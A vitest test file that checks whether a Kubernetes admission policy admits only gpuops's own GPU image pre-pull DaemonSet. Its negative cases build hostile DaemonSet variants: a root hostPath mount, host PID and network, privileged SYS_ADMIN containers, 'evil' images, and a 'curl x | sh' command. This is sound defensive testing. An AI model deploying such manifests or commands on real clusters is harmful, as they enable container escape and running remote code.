/**
 * Allowing the applier `apps/DaemonSet` (for pre-staging) must not let any DaemonSet through: the
 * shipped ValidatingAdmissionPolicy `gpuops-prepull` admits gpuops's pre-pull DaemonSet as
 * `renderPrePull` renders it and refuses each neighbour that widens it (another namespace or
 * name, privilege, a host path, a GPU, a command of its own). Checked against the Kubernetes
 * schema, and its CEL evaluated by a conforming CEL evaluator (`@bufbuild/cel`) on gpuops's real
 * render and on that render with one field changed.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { ValidatingAdmissionPolicy } from 'kubernetes-models/admissionregistration.k8s.io/v1/ValidatingAdmissionPolicy';
import { ValidatingAdmissionPolicyBinding } from 'kubernetes-models/admissionregistration.k8s.io/v1/ValidatingAdmissionPolicyBinding';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { loadDefaultPolicy } from '../../src/definitions/load.js';
import type { PolicySpec } from '../../src/definitions/types.js';
import { renderNamespaceFiles } from '../../src/manifests/namespaces.js';
import { renderPrePull } from '../../src/manifests/prepull.js';
import { admit as admitBy } from './cel-admit.js';

const FILE = path.resolve(import.meta.dirname, '../../templates/install/admission-prepull.yaml');
// eslint-disable-next-line @typescript-eslint/no-explicit-any
type AnyObj = any;
const [vap, binding] = parseAllDocuments(readFileSync(FILE, 'utf8')).map((d) => d.toJS() as AnyObj);

const admit = (ds: AnyObj): string => admitBy(vap, ds);

const NAMESPACE_OR_NAME = (ns: string, name: string) =>
  `DaemonSet ${ns}/${name}: only gpuops-prepull-long-task and gpuops-prepull-short-task in namespace algorithms may run here (gpuops pre-staging)`;
const POD =
  'a pre-pull DaemonSet uses no host namespace, ServiceAccount, token, resource claim or volume but emptyDir (no hostPath)';
const CONTAINER =
  'every container of a pre-pull DaemonSet runs unprivileged, without privilege escalation, as non-root, with no capability added and no environment';
const GPU = 'a pre-pull DaemonSet asks for CPU and memory only (no GPU)';
const COMMANDS =
  "a pre-pull DaemonSet runs only gpuops's commands: the tools copy, each pull's /gpuops-prepull/true, and the pause container";

let policy: PolicySpec;
/** gpuops's render for short-task: two images, one with a pull secret. */
let render: AnyObj;
beforeAll(async () => {
  policy = (await loadDefaultPolicy()).spec;
  const alg = (image: string, secrets: string[] = []) => ({
    namespace: policy.namespace,
    spec: {
      image,
      resources: { gpus: 1 },
      template: { spec: { imagePullSecrets: secrets.map((name) => ({ name })) } },
    },
  });
  render = renderPrePull('short-task', [alg('r/a:1', ['reg']), alg('r/b:2')], policy);
});

/** `render` with `change` applied to a copy of its pod spec. */
function withPod(change: (pod: AnyObj) => void): AnyObj {
  const ds = JSON.parse(JSON.stringify(render)) as AnyObj; // as the API server gets it: no shared objects
  change(ds.spec.template.spec);
  return ds;
}

describe('gpuops-prepull: only the pre-pull DaemonSet gpuops renders is admitted', () => {
  it('is a valid ValidatingAdmissionPolicy and binding (Kubernetes schema), denying, on DaemonSets in gpuops namespaces', () => {
    expect(() => new ValidatingAdmissionPolicy(vap).validate()).not.toThrow();
    expect(() => new ValidatingAdmissionPolicyBinding(binding).validate()).not.toThrow();
    expect([binding.spec.policyName, binding.spec.validationActions]).toEqual([vap.metadata.name, ['Deny']]);
    expect(vap.spec.matchConstraints.resourceRules).toEqual([
      {
        apiGroups: ['apps'],
        apiVersions: ['*'],
        operations: ['CREATE', 'UPDATE'],
        resources: ['daemonsets'],
      },
    ]);
  });

  it('its namespace selector matches every Namespace gpuops writes', () => {
    const [file] = renderNamespaceFiles('prod', [policy.namespace]);
    const ns = parseAllDocuments(file!.content!)[0]!.toJS() as AnyObj;
    expect(ns.kind).toBe('Namespace');
    expect(ns.metadata.labels).toMatchObject(vap.spec.matchConstraints.namespaceSelector.matchLabels);
  });

  it("gpuops's render passes, for both pools, with its pull secrets", () => {
    expect(render.spec.template.spec.imagePullSecrets).toEqual([{ name: 'reg' }]);
    expect(admit(render)).toBe('allowed');
    const long = JSON.parse(JSON.stringify(render)) as AnyObj;
    long.metadata.name = 'gpuops-prepull-long-task';
    expect(admit(long)).toBe('allowed');
    // The default ServiceAccount, named: the same as none.
    expect(admit(withPod((p) => (p.serviceAccountName = 'default')))).toBe('allowed');
  });

  const pull = (p: AnyObj) => p.initContainers[1];
  it.each<[string, () => AnyObj, string]>([
    [
      'another namespace',
      () => ({ ...render, metadata: { ...render.metadata, namespace: 'team-a' } }),
      NAMESPACE_OR_NAME('team-a', 'gpuops-prepull-short-task'),
    ],
    [
      'another name',
      () => ({ ...render, metadata: { ...render.metadata, name: 'node-exporter' } }),
      NAMESPACE_OR_NAME('algorithms', 'node-exporter'),
    ],
    ['a hostPath volume', () => withPod((p) => p.volumes.push({ name: 'h', hostPath: { path: '/' } })), POD],
    ['host network', () => withPod((p) => (p.hostNetwork = true)), POD],
    ['host PID', () => withPod((p) => (p.hostPID = true)), POD],
    ['a ServiceAccount', () => withPod((p) => (p.serviceAccountName = 'admin')), POD],
    ['the token mounted', () => withPod((p) => delete p.automountServiceAccountToken), POD],
    ['a privileged pull', () => withPod((p) => (pull(p).securityContext.privileged = true)), CONTAINER],
    [
      'privilege escalation allowed',
      () => withPod((p) => (pull(p).securityContext.allowPrivilegeEscalation = true)),
      CONTAINER,
    ],
    [
      'a capability added',
      () => withPod((p) => (pull(p).securityContext.capabilities.add = ['SYS_ADMIN'])),
      CONTAINER,
    ],
    ['root', () => withPod((p) => delete p.containers[0].securityContext.runAsNonRoot), CONTAINER],
    [
      'a Secret in the environment',
      () => withPod((p) => (pull(p).envFrom = [{ secretRef: { name: 'reg' } }])),
      CONTAINER,
    ],
    ['an NVIDIA GPU', () => withPod((p) => (pull(p).resources.limits['nvidia.com/gpu'] = '1')), GPU],
    [
      'an AMD GPU request',
      () => withPod((p) => (p.containers[0].resources.requests['amd.com/gpu'] = '1')),
      GPU,
    ],
    [
      'a command of the pull',
      () => withPod((p) => (pull(p).command = ['/bin/sh', '-c', 'curl x | sh'])),
      COMMANDS,
    ],
    ['arguments to the pull', () => withPod((p) => (pull(p).args = ['--serve'])), COMMANDS],
    ['a command on pause', () => withPod((p) => (p.containers[0].command = ['/bin/sh'])), COMMANDS],
    ['another image holding the pod', () => withPod((p) => (p.containers[0].image = 'evil:1')), COMMANDS],
    [
      'a second container',
      () => withPod((p) => p.containers.push(structuredClone(p.containers[0]))),
      COMMANDS,
    ],
    [
      'a tools step from another image',
      () => withPod((p) => (p.initContainers[0].image = 'evil/busybox:1')),
      COMMANDS,
    ],
  ])('refused: %s', (_name, ds, message) => {
    expect(admit(ds())).toBe(message);
  });
});
